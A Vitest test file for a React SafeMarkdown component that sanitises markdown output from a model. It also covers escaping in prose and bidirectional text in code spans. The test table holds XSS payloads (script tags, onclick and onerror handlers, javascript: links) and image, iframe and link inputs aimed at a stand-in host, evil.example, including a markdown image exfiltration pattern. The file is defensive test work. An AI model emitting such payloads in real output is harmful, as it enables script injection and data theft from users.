import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { CodeText } from "./CodeText.tsx";
import { Prose } from "./Prose.tsx";
import { SafeMarkdown } from "./SafeMarkdown.tsx";
import { TooltipProvider } from "./Tooltip.tsx";

const markdown = (text: string) =>
  renderToStaticMarkup(
    <TooltipProvider>
      <SafeMarkdown text={text} />
    </TooltipProvider>,
  );

describe("Markdown of a model", () => {
  test.each([
    ["a script", "<script>alert(1)</script>hello", /<script/i],
    ["a handler", '<b onclick="alert(1)">hello</b>', /onclick/i],
    ["a picture", "![secret](https://evil.example/?q=1)", /<img|evil\.example"/i],
    ["a picture in HTML", '<img src="https://evil.example/x.png">', /<img|evil/i],
    ["a style", "<style>*{display:none}</style>", /<style/i],
    ["a script address", "[click](javascript:alert(1))", /javascript:/i],
    ["a plain link", "[click](https://example.org/)", /<a |href=/i],
    ["a plain address", "see https://evil.example/?q=1", /<a |href=/i],
    ["a table cell", "| a |\n| - |\n| <img src=x onerror=alert(1)> |", /<img|onerror/i],
    ["a footnote", "a[^1]\n\n[^1]: [b](https://evil.example)", /<a |href=/i],
    ["a frame", '<iframe src="https://evil.example">', /<iframe/i],
  ])("%s does nothing", (_, text, forbidden) => {
    expect(markdown(text)).not.toMatch(forbidden);
  });

  test("is still Markdown", () => {
    expect(markdown("**bold** and `code`")).toContain("<strong>bold</strong> and <code>code</code>");
    const table = markdown("| File | Lines |\n| --- | ---: |\n| `a.ts` | 12 |");
    expect(table).toContain("<th>File</th>");
    expect(table).toMatch(/<td><code>a\.ts<\/code><\/td>\s*<td style="text-align:right">12<\/td>/);
  });
});

test("a sentence marks what stands in backticks, and only text comes out", () => {
  const html = renderToStaticMarkup(<Prose text="run `<img src=x>` in ~/app" />);
  expect(html).toContain("&lt;img src=x&gt;</code> in ~/app");
  expect(renderToStaticMarkup(<Prose text="one ` is no mark" />)).toContain(">one ` is no mark</code>");
});

test("signs between right-to-left words keep their place", () => {
  expect(renderToStaticMarkup(<CodeText text="echo שלום > ברכה.txt" />)).toBe(
    "echo <bdi>שלום</bdi> &gt; <bdi>ברכה</bdi>.txt",
  );
});
